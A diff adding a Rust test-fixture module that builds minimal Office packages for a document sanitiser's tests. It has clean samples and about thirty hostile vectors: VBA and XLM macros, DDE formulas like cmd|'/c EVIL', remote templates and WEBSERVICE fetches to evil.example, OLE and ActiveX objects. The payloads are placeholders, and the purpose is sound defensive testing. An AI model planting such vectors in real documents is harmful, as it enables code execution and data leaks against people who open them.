@@ -1,1 +1,358 @@
-//! f
+//! Builders of small packages, hostile and clean, for tests. A clean draft is
+//! spelled the way our writer spells, so that the verifier refuses a hostile
+//! one for what is hostile in it and for nothing else.
+#![allow(clippy::unwrap_used, clippy::indexing_slicing)] // tests stop at the first surprise
+
+use crate::sanitise::{Kind, What};
+
+pub(super) const SENTENCE: &str = "見積書の本文です。";
+const HEAD: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n";
+const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
+const W: &str = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" \
+     xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" \
+     xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" \
+     xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\" \
+     xmlns:pic=\"http://schemas.openxmlformats.org/drawingml/2006/picture\" \
+     xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\"";
+const S: &str = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" \
+     xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";
+const P: &str = "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" \
+     xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" \
+     xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"";
+
+/// A package being drafted.
+#[derive(Clone)]
+pub(super) struct Draft {
+    pub(super) kind: Kind,
+    pub(super) parts: Vec<(String, String, Vec<u8>)>,
+    /// Owner, id, type, target, external.
+    relations: Vec<(String, String, String, String, bool)>,
+}
+
+/// A hostile draft: what must be reported, and what must not be in the output.
+pub(super) struct Vector {
+    pub(super) name: &'static str,
+    pub(super) draft: Draft,
+    pub(super) what: What,
+    pub(super) gone: &'static [&'static str],
+}
+
+impl Draft {
+    fn new(kind: Kind, main: &str, content_type: &str, content: &str) -> Self {
+        let draft = Self {
+            kind,
+            parts: Vec::new(),
+            relations: Vec::new(),
+        };
+        draft
+            .part(main, content_type, content.as_bytes())
+            .relation("", "officeDocument", main)
+    }
+
+    pub(super) fn part(mut self, name: &str, content_type: &str, content: &[u8]) -> Self {
+        let content_type = if content_type.is_empty() {
+            String::new()
+        } else if content_type.contains('/') {
+            content_type.to_owned()
+        } else {
+            format!("application/vnd.openxmlformats-officedocument.{content_type}+xml")
+        };
+        self.parts
+            .push((name.to_owned(), content_type, content.to_vec()));
+        self
+    }
+
+    /// An internal relation; ids count up from rId1 over the whole draft.
+    pub(super) fn relation(self, owner: &str, step: &str, target: &str) -> Self {
+        let target = format!("/{target}");
+        self.relate(owner, step, &target, false)
+    }
+
+    pub(super) fn external(self, owner: &str, step: &str, target: &str) -> Self {
+        self.relate(owner, step, target, true)
+    }
+
+    fn relate(mut self, owner: &str, step: &str, target: &str, external: bool) -> Self {
+        let id = format!("rId{}", self.relations.len() + 1);
+        let kind = if step.contains("//") {
+            step.to_owned()
+        } else {
+            format!("{REL}{step}")
+        };
+        self.relations
+            .push((owner.to_owned(), id, kind, target.to_owned(), external));
+        self
+    }
+
+    /// Replaces the main part's content type.
+    pub(super) fn typed(mut self, content_type: &str) -> Self {
+        self.parts[0].1 = content_type.to_owned();
+        self
+    }
+
+    /// All entries with their content, in order.
+    pub(super) fn entries(&self) -> Vec<(String, Vec<u8>)> {
+        let mut types = format!(
+            "{HEAD}<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
+             <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
+             <Default Extension=\"xml\" ContentType=\"application/xml\"/>\
+             <Default Extension=\"png\" ContentType=\"image/png\"/>"
+        );
+        for (name, content_type, _) in self.parts.iter().filter(|part| !part.1.is_empty()) {
+            types += &format!("<Override PartName=\"/{name}\" ContentType=\"{content_type}\"/>");
+        }
+        types += "</Types>";
+        let mut entries = vec![("[Content_Types].xml".to_owned(), types.into_bytes())];
+        let mut owners: Vec<&str> = self.relations.iter().map(|r| r.0.as_str()).collect();
+        owners.sort_unstable();
+        owners.dedup();
+        for owner in owners {
+            let mut list = format!(
+                "{HEAD}<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+            );
+            for (_, id, kind, target, external) in self.relations.iter().filter(|r| r.0 == owner) {
+                let mode = if *external {
+                    " TargetMode=\"External\""
+                } else {
+                    ""
+                };
+                list += &format!(
+                    "<Relationship Id=\"{id}\" Type=\"{kind}\" Target=\"{target}\"{mode}/>"
+                );
+            }
+            list += "</Relationships>";
+            let name = match owner.rsplit_once('/') {
+                Some((folder, file)) => format!("{folder}/_rels/{file}.rels"),
+                None => format!("_rels/{owner}.rels"),
+            };
+            entries.push((name, list.into_bytes()));
+        }
+        entries.extend(
+            self.parts
+                .iter()
+                .map(|(name, _, content)| (name.clone(), content.clone())),
+        );
+        entries
+    }
+
+    pub(super) fn bytes(&self) -> Vec<u8> {
+        zip(&self.entries())
+    }
+}
+
+/// Stored entries in the layout that our writer uses.
+pub(super) fn zip(entries: &[(String, Vec<u8>)]) -> Vec<u8> {
+    let (mut bytes, mut directory) = (Vec::new(), Vec::new());
+    for (name, content) in entries {
+        let offset = u32::try_from(bytes.len()).unwrap();
+        let mut crc = flate2::Crc::new();
+        crc.update(content);
+        let size = u32::try_from(content.len()).unwrap().to_le_bytes();
+        let mut header = vec![20, 0, 0, 0, 0, 0, 0, 0, 0x21, 0];
+        header.extend(crc.sum().to_le_bytes());
+        header.extend(size);
+        header.extend(size);
+        header.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
+        header.extend([0, 0]);
+        bytes.extend(b"PK\x03\x04");
+        bytes.extend(&header);
+        bytes.extend(name.as_bytes());
+        bytes.extend(content);
+        directory.extend(b"PK\x01\x02\x14\x00");
+        directory.extend(&header);
+        directory.extend([0; 10]);
+        directory.extend(offset.to_le_bytes());
+        directory.extend(name.as_bytes());
+    }
+    let count = u16::try_from(entries.len()).unwrap().to_le_bytes();
+    let start = u32::try_from(bytes.len()).unwrap().to_le_bytes();
+    let length = u32::try_from(directory.len()).unwrap().to_le_bytes();
+    bytes.extend(directory);
+    bytes.extend(b"PK\x05\x06\0\0\0\0");
+    for field in [&count[..], &count, &length, &start, &[0, 0]] {
+        bytes.extend(field);
+    }
+    bytes
+}
+
+/// A docx with `SENTENCE` and more body.
+pub(super) fn word(body: &str) -> Draft {
+    let content = format!(
+        "{HEAD}<w:document {W}><w:body><w:p><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>{body}</w:body></w:document>"
+    );
+    Draft::new(
+        Kind::Word,
+        "word/document.xml",
+        "wordprocessingml.document.main",
+        &content,
+    )
+}
+
+/// An xlsx with `SENTENCE` in A1, more cells and more in the workbook.
+pub(super) fn sheet(cells: &str, after: &str, book: &str) -> Draft {
+    let workbook = format!(
+        "{HEAD}<workbook {S}><sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId2\"/></sheets>{book}</workbook>"
+    );
+    let content = format!(
+        "{HEAD}<worksheet {S}><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{SENTENCE}</t></is></c>{cells}</row></sheetData>{after}</worksheet>"
+    );
+    Draft::new(
+        Kind::Sheet,
+        "xl/workbook.xml",
+        "spreadsheetml.sheet.main",
+        &workbook,
+    )
+    .part(
+        "xl/worksheets/sheet1.xml",
+        "spreadsheetml.worksheet",
+        content.as_bytes(),
+    )
+    .relation("xl/workbook.xml", "worksheet", "xl/worksheets/sheet1.xml")
+}
+
+/// A pptx of one slide with `SENTENCE` and more shapes.
+pub(super) fn slides(shapes: &str, after: &str) -> Draft {
+    let presentation = format!(
+        "{HEAD}<p:presentation {P}><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId2\"/></p:sldIdLst></p:presentation>"
+    );
+    let content = format!(
+        "{HEAD}<p:sld {P}><p:cSld><p:spTree><p:sp><p:txBody><a:bodyPr/><a:p><a:r><a:t>{SENTENCE}</a:t></a:r></a:p></p:txBody></p:sp>{shapes}</p:spTree></p:cSld>{after}</p:sld>"
+    );
+    Draft::new(
+        Kind::Slides,
+        "ppt/presentation.xml",
+        "presentationml.presentation.main",
+        &presentation,
+    )
+    .part(
+        "ppt/slides/slide1.xml",
+        "presentationml.slide",
+        content.as_bytes(),
+    )
+    .relation("ppt/presentation.xml", "slide", "ppt/slides/slide1.xml")
+}
+
+/// A small PNG.
+pub(super) fn png() -> Vec<u8> {
+    let mut bytes = std::io::Cursor::new(Vec::new());
+    image::RgbImage::new(3, 2)
+        .write_to(&mut bytes, image::ImageFormat::Png)
+        .unwrap();
+    bytes.into_inner()
+}
+
+fn blip(attribute: &str) -> String {
+    format!(
+        "<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:pic><pic:blipFill><a:blip {attribute}/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
+    )
+}
+
+/// A docx with a picture.
+pub(super) fn word_with_picture(bytes: &[u8]) -> Draft {
+    word(&blip("r:embed=\"rId2\""))
+        .part("word/media/image1.png", "", bytes)
+        .relation("word/document.xml", "image", "word/media/image1.png")
+}
+
+/// A field whose code is told in pieces.
+pub(super) fn field(pieces: &[&str], result: &str) -> String {
+    let mark = |kind: &str| format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>");
+    let code: String = pieces
+        .iter()
+        .map(|piece| format!("<w:r><w:instrText>{piece}</w:instrText></w:r>"))
+        .collect();
+    let (begin, separate, end) = (mark("begin"), mark("separate"), mark("end"));
+    format!("<w:p>{begin}{code}{separate}<w:r><w:t>{result}</w:t></w:r>{end}</w:p>")
+}
+
+/// Clean drafts: rebuilt with their text, and accepted as they stand.
+pub(super) fn clean() -> Vec<Draft> {
+    vec![
+        word(&field(&[" PA", "GE "], "1")),
+        word(&field(&["HYPERLINK \\l &quot;x&quot;"], "目次")),
+        word("<w:p><w:hyperlink r:id=\"rId2\"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>")
+            .external("word/document.xml", "hyperlink", "https://example.lg.jp/"),
+        sheet("<c r=\"B1\"><f>SUM(C1:C3)</f><v>6</v></c>", "", ""),
+        slides("", ""),
+    ]
+}
+
+/// One vector, one minimal file.
+pub(super) fn vectors() -> Vec<Vector> {
+    let vba = "application/vnd.ms-office.vbaProject";
+    let vba_step = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";
+    let ole = "application/vnd.openxmlformats-officedocument.oleObject";
+    let vector = |name, draft, what, gone| Vector {
+        name,
+        draft,
+        what,
+        gone,
+    };
+    let document = "word/document.xml";
+    let slide = "ppt/slides/slide1.xml";
+    let nested = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>EVIL</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
+    vec![
+        vector("docm with VBA", word("").typed("application/vnd.ms-word.document.macroEnabled.main+xml")
+            .part("word/vbaProject.bin", vba, b"EVIL").relation(document, vba_step, "word/vbaProject.bin"),
+            What::VbaProject, &["EVIL", "macroEnabled", "vbaProject"]),
+        vector("VBA under another name", word("").part("word/theme/theme1.xml", vba, b"EVIL")
+            .relation(document, vba_step, "word/theme/theme1.xml"), What::VbaProject, &["EVIL"]),
+        vector("pptm with VBA and a macro click", slides("<p:sp><p:nvSpPr><p:cNvPr id=\"3\" name=\"b\"><a:hlinkClick r:id=\"\" action=\"ppaction://macro?name=EVIL\"/></p:cNvPr></p:nvSpPr></p:sp>", "")
+            .typed("application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
+            .part("ppt/vbaProject.bin", vba, b"EVIL").relation("ppt/presentation.xml", vba_step, "ppt/vbaProject.bin"),
+            What::Action, &["EVIL", "ppaction", "vbaProject"]),
+        vector("xlsm with an XLM sheet", sheet("", "", "<definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName></definedNames>")
+            .typed("application/vnd.ms-excel.sheet.macroEnabled.main+xml")
+            .part("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", b"<xm:macrosheet>EVIL</xm:macrosheet>")
+            .relation("xl/workbook.xml", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "xl/macrosheets/sheet1.xml"),
+            What::XlmMacro, &["EVIL", "Auto_Open", "macrosheet", "Macro1"]),
+        vector("remote template", word("").part("word/settings.xml", "wordprocessingml.settings",
+            format!("{HEAD}<w:settings {W}><w:attachedTemplate r:id=\"rId3\"/></w:settings>").as_bytes())
+            .relation(document, "settings", "word/settings.xml")
+            .external("word/settings.xml", "attachedTemplate", "http://evil.example/t.dotm"),
+            What::RemoteTemplate, &["evil.example", "attachedTemplate"]),
+        vector("DDE over runs", word(&field(&["D", "DEA", "UTO c:\\\\EVIL.exe"], "結果")), What::Dde, &["EVIL", "DEA"]),
+        vector("DDE in a simple field", word("<w:p><w:fldSimple w:instr=\"DDE EVIL x\"><w:r><w:t>結果</w:t></w:r></w:fldSimple></w:p>"), What::Dde, &["EVIL"]),
+        vector("code computed by a nested field", word(nested), What::FieldCode, &["QUOTE", "EVIL"]),
+        vector("include picture", word(&field(&["INCLUDEPICTURE &quot;http://evil.example/&quot;"], "x")), What::FieldCode, &["evil.example"]),
+        vector("field in a header", word("<w:sectPr><w:headerReference w:type=\"default\" r:id=\"rId2\"/></w:sectPr>")
+            .part("word/header1.xml", "wordprocessingml.header", format!("{HEAD}<w:hdr {W}>{}</w:hdr>", field(&["IMPORT ", "EVIL"], "x")).as_bytes())
+            .relation(document, "header", "word/header1.xml"), What::FieldCode, &["EVIL"]),
+        vector("link field to a file", word(&field(&["HYPERLINK &quot;file://evil.example/x&quot;"], "x")), What::Link, &["evil.example"]),
+        vector("external image", word(&blip("r:link=\"rId2\"")).external(document, "image", "http://evil.example/a.png"), What::ExternalImage, &["evil.example"]),
+        vector("file hyperlink", word("<w:p><w:hyperlink r:id=\"rId2\"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>")
+            .external(document, "hyperlink", "file://evil.example/x"), What::Link, &["evil.example"]),
+        vector("embedded object", word("<w:p><w:r><w:object><v:shape id=\"s\"/><o:OLEObject Type=\"Embed\" ProgID=\"Package\" r:id=\"rId2\"/></w:object></w:r></w:p>")
+            .part("word/embeddings/oleObject1.bin", ole, b"EVIL").relation(document, "oleObject", "word/embeddings/oleObject1.bin"),
+            What::OleObject, &["EVIL", "OLEObject", "embeddings"]),
+        vector("ActiveX", word("<w:p><w:r><w:control r:id=\"rId2\" w:name=\"EVIL\"/></w:r></w:p>")
+            .part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", b"<EVIL/>").relation(document, "control", "word/activeX/activeX1.xml"),
+            What::Activex, &["EVIL", "activeX"]),
+        vector("alternative format chunk", word("<w:altChunk r:id=\"rId2\"/>").part("word/afchunk.mht", "message/rfc822", b"EVIL")
+            .relation(document, "aFChunk", "word/afchunk.mht"), What::AltChunk, &["EVIL", "altChunk"]),
+        vector("sub-document", word("<w:subDoc r:id=\"rId2\"/>").external(document, "subDocument", "file:///EVIL"), What::ExternalLink, &["EVIL", "subDoc"]),
+        vector("custom ribbon", word("").part("customUI/customUI.xml", "application/xml", b"<customUI onLoad=\"EVIL\"/>")
+            .relation("", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/customUI.xml"),
+            What::CustomUi, &["EVIL", "customUI"]),
+        vector("data binding", word("<w:sdt><w:sdtPr><w:dataBinding w:xpath=\"EVIL\"/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>"), What::CustomXml, &["EVIL"]),
+        vector("mail merge", word("").part("word/settings.xml", "wordprocessingml.settings",
+            format!("{HEAD}<w:settings {W}><w:mailMerge><w:query w:val=\"EVIL\"/></w:mailMerge></w:settings>").as_bytes())
+            .relation(document, "settings", "word/settings.xml"), What::DataConnection, &["EVIL"]),
+        vector("picture with data behind it", word_with_picture(&[png(), b"EVIL".to_vec()].concat()), What::TrailingData, &["EVIL"]),
+        vector("metafile", word_with_picture(b"\x01\0\0\0EVIL EMF"), What::UnknownPart, &["EVIL", "media"]),
+        vector("formula that fetches", sheet("<c r=\"B1\"><f>_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;)</f><v>7</v></c>", "", ""), What::ActiveFormula, &["evil.example", "WEBSERVICE"]),
+        vector("DDE formula", sheet("<c r=\"B1\"><f>cmd|'/c EVIL'!A0</f><v>7</v></c>", "", ""), What::Dde, &["EVIL"]),
+        vector("formula into another file", sheet("<c r=\"B1\"><f>[1]EVIL!A1</f><v>7</v></c>", "", "<externalReferences><externalReference r:id=\"rId9\"/></externalReferences>"), What::ActiveFormula, &["EVIL", "externalRef"]),
+        vector("object in a sheet", sheet("", "<oleObjects><oleObject progId=\"EVIL\" shapeId=\"1\" r:id=\"rId3\"/></oleObjects>", "")
+            .part("xl/embeddings/oleObject1.bin", ole, b"EVIL").relation("xl/worksheets/sheet1.xml", "oleObject", "xl/embeddings/oleObject1.bin"),
+            What::OleObject, &["EVIL", "oleObject"]),
+        vector("printer settings", sheet("", "<pageSetup r:id=\"rId3\"/>", "").part("xl/printerSettings/printerSettings1.bin", "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings", b"EVIL")
+            .relation("xl/worksheets/sheet1.xml", "printerSettings", "xl/printerSettings/printerSettings1.bin"), What::PrinterSettings, &["EVIL", "printerSettings"]),
+        vector("data connection", sheet("", "", "").part("xl/connections.xml", "spreadsheetml.connections", b"<connections>EVIL</connections>")
+            .relation("xl/workbook.xml", "connections", "xl/connections.xml"), What::DataConnection, &["EVIL", "connections"]),
+        vector("name that calls out", sheet("", "", "<definedNames><definedName name=\"n\">cmd|'/c EVIL'!A0</definedName></definedNames>"), What::ActiveFormula, &["EVIL"]),
+        vector("verb in an animation", slides("", "<p:timing><p:tnLst><p:cmd type=\"verb\" cmd=\"EVIL\"/></p:tnLst></p:timing>"), What::Action, &["EVIL", "p:cmd"]),
+        vector("linked sound", slides("<p:pic><p:nvPicPr><p:nvPr><a:audioFile r:link=\"rId3\"/></p:nvPr></p:nvPicPr></p:pic>", "")
+            .external(slide, "audio", "file:///EVIL.wav"), What::RichMedia, &["EVIL", "audioFile"]),
+    ]
+}
